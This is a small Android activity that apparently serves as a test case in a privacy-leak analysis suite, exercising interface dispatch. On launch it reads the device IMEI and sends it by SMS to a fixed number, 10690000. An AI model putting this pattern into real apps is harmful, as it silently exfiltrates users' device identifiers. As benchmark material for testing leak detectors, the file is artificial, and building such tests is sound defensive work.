package cn.privlens.suite.interface_default_dispatch;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    interface Source { String get(Context c); }
    static class Device implements Source {
        @Override
        public String get(Context c) { return ((TelephonyManager) c.getSystemService(Context.TELEPHONY_SERVICE)).getDeviceId(); }
    }
    static class Fixed implements Source {
        @Override
        public String get(Context c) { return "fixed"; }
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Source[] all = {new Device(), new Fixed()};
        SmsManager.getDefault().sendTextMessage("10690000", null, all[0].get(this), null, null);
    }
}
